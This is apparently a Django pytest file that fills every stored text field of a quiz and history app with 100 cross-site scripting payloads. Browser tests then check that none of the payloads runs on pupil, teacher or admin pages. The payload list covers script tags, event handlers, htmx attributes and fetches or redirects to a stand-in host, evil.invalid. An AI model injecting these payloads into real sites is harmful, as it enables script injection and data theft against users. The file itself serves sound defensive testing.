"""A hundred ways of writing script where text belongs, in every text that is stored: none runs.

XSS=all in the environment opens the page of every row; else some of them.
"""

import os
from dataclasses import replace
from datetime import timedelta
from itertools import count, product

import pytest
from django.apps import apps
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import User
from django.contrib.contenttypes.models import ContentType
from django.db import models
from django.urls import reverse
from django.utils import timezone

from history.groups import LIBRARY, let_teachers
from history.models import Event, Source, Topic
from quiz import assigning, classes, kinds, play
from quiz.generation import compose
from quiz.models import (
    Answer,
    Assignment,
    AuthoredQuestion,
    Objection,
    Question,
    Round,
    SetQuestion,
    Withdrawal,
)
from tests.browser.town import OWN
from tests.history import factories as history
from tests.quiz import own
from tests.quiz.cast import MembershipFactory, TeachingFactory, browser_of, signed_in, teacher
from tests.quiz.world import drafts

ALL = os.environ.get("XSS") == "all"
ROWS = 100

ACTS = ["alert(1)", "fetch('//evil.invalid/x')", "location='//evil.invalid/'", "document.title='x'"]
FORMS = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video src=x onerror={}></video>",
    "<a href='javascript:{}' id=go-on>x</a>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus="{}',
    "' onmouseover='{}",
    "<style>@import '//evil.invalid/{}';</style>",
    "<link rel=stylesheet href='//evil.invalid/{}'>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<b hx-get=/fired hx-trigger=load hx-vals='{}'>x</b>",
    '" hx-get="/fired" hx-trigger="load" data-x="{}',
    "<b hx-on::load={}>x</b>",
    "<b data-hx-post=/fired data-hx-trigger='load'>{}</b>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/{}'>",
    "<base href='//evil.invalid/{}'>",
    "{{{{ {} }}}}",
    "--><script>{}</script><!--",
    "<math><mi xlink:href='javascript:{}'>x</math>",
]
PAYLOADS = [form.format(act) for form, act in product(FORMS, ACTS)]


# What programs compare: no person writes it.
PROGRAMS = "code token phrase nickname_key fact last_way likeness door language overruled option"
PROGRAMS = {*PROGRAMS.split(), "password", "object_id"}
# Whose texts nobody but the program writes, or nobody sees: a file that waits; a count by hashes.
UNSEEN = {"WaitingFile", "WrongGuesses"}
# Questions and answers as they were shown and given, in which texts stand among other things.
SHOWN = {Question: ["shown", "key"], SetQuestion: ["shown", "key"], Answer: ["given", "feedback"]}


def poison():
    """Every text that is stored, with each of the payloads in some row of its table."""
    for model, fields in texts().items():
        rows = list(model.objects.order_by("pk"))
        for number, row in enumerate(rows):
            for shift, field in enumerate(fields):
                if may_say(field, row, number):
                    setattr(row, field.name, fitting(number + shift, field))
        model.objects.bulk_update(rows, [field.name for field in fields], batch_size=50)
    poison_what_was_shown()


def may_say(field, row, number):
    """Short questions alone have accepted answers; no two people have a name in common."""
    if field.name == "accepted":
        return bool(row.accepted)
    return not field.unique or number < len(fits(field))


def poison_what_was_shown():
    for model, names in SHOWN.items():
        rows = list(model.objects.order_by("pk"))
        for row in rows:
            for name in names:
                setattr(row, name, woven(getattr(row, name)))
        model.objects.bulk_update(rows, names, batch_size=50)
    for short in Answer.objects.filter(question__kind="authored", question__shown__mode="text"):
        if isinstance(short.given, str):
            short.given = woven({"typed": short.given})["typed"]
            short.save()


def texts():
    """The fields of each model in which people write."""
    known = [
        *apps.get_app_config("history").get_models(),
        *apps.get_app_config("quiz").get_models(),
    ]
    free = {
        model: [field for field in model._meta.concrete_fields if is_free_text(field)]
        for model in [*known, User, LogEntry]
        if model not in SHOWN and model.__name__ not in UNSEEN
    }
    return {model: fields for model, fields in free.items() if fields}


def is_free_text(field):
    """No choices, slugs, addresses."""
    programs = (models.SlugField, models.URLField)
    free = isinstance(field, models.CharField | models.TextField) and not field.choices
    free = free and type(field).__name__ != "EDTFField" and not isinstance(field, programs)
    return free and field.name not in PROGRAMS


def fits(field):
    return [payload for payload in PAYLOADS if len(payload) <= (field.max_length or 500)]


def fitting(number, field):
    known = fits(field)
    return known[number % len(known)]


numbers = count()
TEXTS = {"stem", "hint", "text", "reason", "explanation", "title", "gist", "locator", "note"}
TEXTS |= {"viewpoint", "typed"}


def woven(part):
    """The same question with a payload in each of its texts."""
    if isinstance(part, dict):
        return {
            name: PAYLOADS[next(numbers) % 100]
            if name in TEXTS and isinstance(value, str) and value
            else woven(value)
            for name, value in part.items()
        }
    return [woven(value) for value in part] if isinstance(part, list) else part


@pytest.fixture
def poisoned(site):
    """A library, all of it written by somebody with bad intent."""
    topic = Topic.objects.get(slug="us-russia")
    history.TopicFactory.create_batch(ROWS)
    sources = history.SourceFactory.create_batch(ROWS)
    for source in sources:
        event = history.EventFactory(topics=[topic])
        history.DateClaimFactory(event=event, source=source, note="n", quote="q")
        cause = history.CauseFactory(effect=event)
        history.CauseClaimFactory(cause=cause, source=source, quote="q")
        history.MisconceptionFactory(event=event)
    return topic


@pytest.fixture
def school(poisoned, us_russia):
    # What teachers may do comes from migrations, and the flush of another test takes it away.
    let_teachers(apps, "history", LIBRARY)
    let_teachers(apps, "quiz", OWN)
    staff = teacher()
    user = staff.session["_auth_user_id"]
    owner = apps.get_model("auth", "User").objects.get(pk=user)
    rooms = [classes.create(user=owner, name=f"c{n}", topic=poisoned) for n in range(ROWS)]
    TeachingFactory.create_batch(ROWS, classroom=rooms[0])
    authored(poisoned)
    written_down(owner)
    assigned(rooms[0], owner, poisoned)
    members = MembershipFactory.create_batch(ROWS, classroom=rooms[0])
    pupil = members[0].player
    composed = compose(us_russia, 1)
    for player in [pupil] * 3 + [member.player for member in members[1:8]]:
        played = play.keep_round(player=player, topic=poisoned, drafts=composed)
        for question in played.questions.all()[:10]:
            told, _new = play.answer(question=question, given=mostly_wrong(question))
            Objection.objects.create(answer=told, words="x")
    still_open = play.keep_round(player=pupil, topic=poisoned, drafts=composed)
    written = asked_by_teachers(us_russia)
    for question in play.keep_round(player=pupil, topic=poisoned, drafts=written).questions.all():
        play.answer(question=question, given=mostly_wrong(question))
    play.keep_round(player=pupil, topic=poisoned, drafts=written)
    poison()
    return owner, rooms[0], pupil, still_open


def authored(topic):
    """Teachers' own questions, as many of each form, and what was withdrawn of all."""
    for number in range(ROWS):
        question = list(own.ALL.values())[number % len(own.ALL)]
        asked = replace(question, fact=f"own:{number}", stem=f"Is it {number}?")
        own.store(asked, topic)
        Withdrawal.objects.create(likeness=str(number), stem="s", reason="r", note="n")


def asked_by_teachers(chronicle):
    told = own.beside(chronicle, *own.ALL.values())
    ways = kinds.all_kinds()["authored"].ways
    return [draft for way in ways for draft in drafts("authored", told, way=way)]


def written_down(user):
    """A hundred lines of the admin's log, all of one event."""
    event = Event.objects.earliest("pk")
    LogEntry.objects.bulk_create(
        LogEntry(
            user=user,
            content_type=ContentType.objects.get_for_model(Event),
            object_id=str(event.pk),
            object_repr="x",
            action_flag=CHANGE,
            change_message="x",
        )
        for _ in range(ROWS)
    )


def assigned(room, by, topic):
    """One with its questions, and as many that have a title alone."""
    until = timezone.now() + timedelta(days=7)
    first = assigning.assign(
        classroom=room, by=by, topic=topic, seed=3, title="t", opens=timezone.now(), due=until
    )
    kept = {"classroom": room, "set_by": by, "topic": topic, "opens": first.opens, "due": until}
    Assignment.objects.bulk_create(Assignment(**kept, title="t") for _ in range(ROWS - 1))


def mostly_wrong(question):
    key, mode = question.key["answer"], question.shown["mode"]
    if mode == "text" and question.kind == "authored" and question.key["asks"]["form"] == "short":
        return "1234"
    if mode == "text":
        return {"typed": "1234", "edtf": "1234"}
    wrong = [o["id"] for o in question.shown["options"] if o["id"] not in key] or key[::-1]
    return wrong[0] if mode == "single" else wrong


def addresses(room, still_open):
    """What a pupil opens, and what a teacher does."""
    some = slice(None) if ALL else slice(0, 3)
    events, sources = Event.objects.order_by("pk"), Source.objects.order_by("pk")
    rounds = [played.get_absolute_url() for played in Round.objects.order_by("pk")[:3]]
    answers = [
        reverse("quiz:answer", args=[question.uuid])
        for question in Question.objects.filter(round__player=still_open.player_id, answer__gt=0)
    ]
    own_answers = [
        reverse("quiz:answer", args=[question.uuid])
        for question in Question.objects.filter(kind="authored", answer__gt=0)
    ]
    here = [room.get_absolute_url(), reverse("quiz:board", args=[room.uuid])]
    library = [
        *(reverse("history:event", args=[event.slug]) for event in events[some]),
        *(reverse("history:source", args=[source.slug]) for source in sources[some]),
        *(topic.get_absolute_url() for topic in Topic.objects.order_by("pk")[some]),
    ]
    set_rounds = Assignment.objects.order_by("pk")
    pupil = ["/", *library, *rounds, *answers[some], *own_answers, *here]
    pupil += [still_open.get_absolute_url(), "/me/", "/me/answers/", "/join/"]
    pupil += [
        reverse("quiz:assignments", args=[room.uuid]),
        *(row.get_absolute_url() for row in set_rounds[some]),
    ]
    names = "pupils joining cards class-settings class-misconceptions class-questions assignments"
    desk = [reverse(f"quiz:{name}", args=[room.uuid]) for name in names.split()]
    desk += [
        reverse(f"quiz:{name}", args=[set_rounds[0].uuid])
        for name in ("assignment", "assignment-paper")
    ]
    first = room.memberships.earliest("pk").pk
    desk.append(reverse("quiz:pupil", args=[room.uuid, first]))
    desk.append(reverse("quiz:coverage", args=["us-russia"]))
    lists = "topic event source cause misconception".split()
    admin = [reverse(f"admin:history_{name}_changelist") for name in lists]
    kept = "objection withdrawal authoredquestion".split()
    admin += [reverse(f"admin:quiz_{name}_changelist") for name in kept]
    admin += ["/admin/", "/admin/history/topic/import/"]
    for model in (Topic, Event, Source, Objection, Withdrawal):
        admin += changed(model.objects.earliest("pk"))
    for form in own.ALL:
        admin += changed(AuthoredQuestion.objects.filter(form=form).earliest("pk"))
    return pupil, [*here, "/classes/", *desk, *admin]


def changed(row):
    """Where it is changed, and where it is told who has changed it."""
    meta = row._meta
    name = f"admin:{meta.app_label}_{meta.model_name}"
    return [reverse(f"{name}_{page}", args=[row.pk]) for page in ("change", "history")]


def heard_at(page, urls):
    """What ran, called for, or was stopped: nothing of it is to be."""
    heard, here = [], []
    page.on("dialog", lambda dialog: (heard.append(("dialog", *here)), dialog.dismiss()))
    page.on("pageerror", lambda error: heard.append(("error", str(error), *here)))
    page.on("console", lambda told: heard.append((told.text, *here)) if is_breach(told) else None)
    page.on("request", lambda asked: heard.append((asked.url, *here)) if is_foreign(asked) else 0)
    for url in urls:
        here[:] = [url]
        reply = page.goto(url, wait_until="load")
        assert reply.status < 400, (url, reply.status)
        if page.title() == "x":
            heard.append(("title", url))
    return heard


def is_breach(told):
    return "Content Security Policy" in told.text or "Content-Security-Policy" in told.text


def is_foreign(asked):
    return "evil.invalid" in asked.url or asked.url.endswith("/fired")


def signed_in_as(context, site, browser):
    name = browser.cookies["sessionid"].value
    context.add_cookies([{"name": "sessionid", "value": name, "url": site}])


def test_there_are_a_hundred_payloads_and_some_speak_htmx():
    assert len(set(PAYLOADS)) == 100
    assert sum("hx-" in payload for payload in PAYLOADS) >= 16


def test_every_text_that_people_write_has_its_hundred_rows(school):
    """A new table without rows fails here."""
    few = {model: model.objects.count() for model in texts()}
    assert {model: number for model, number in few.items() if number < ROWS} == {}
    assert all(model.objects.exists() for model in SHOWN)
    for model, fields in texts().items():
        for field in fields:
            stored = set(model.objects.values_list(field.name, flat=True))
            least = ROWS // len(own.ALL) if field.name == "accepted" else len(fits(field))
            assert len(stored & set(PAYLOADS)) >= least, field


def test_what_is_stored_never_runs(page, context, site, school):
    owner, room, player, still_open = school
    pupils, teachers = addresses(room, still_open)
    signed_in_as(context, site, browser_of(player))
    assert heard_at(page, [site + path for path in pupils]) == []
    context.clear_cookies()
    signed_in_as(context, site, signed_in(owner))
    assert heard_at(page, [site + path for path in teachers]) == []


def test_without_escaping_it_is_noticed(page, context, site, poisoned, settings):
    """The control: the same page where templates trust what they show."""
    poison()
    engine = settings.TEMPLATES[0]
    options = {**engine["OPTIONS"], "autoescape": False}
    settings.TEMPLATES = [{**engine, "OPTIONS": options}]
    assert heard_at(page, [site + "/topics/us-russia/"]) != []
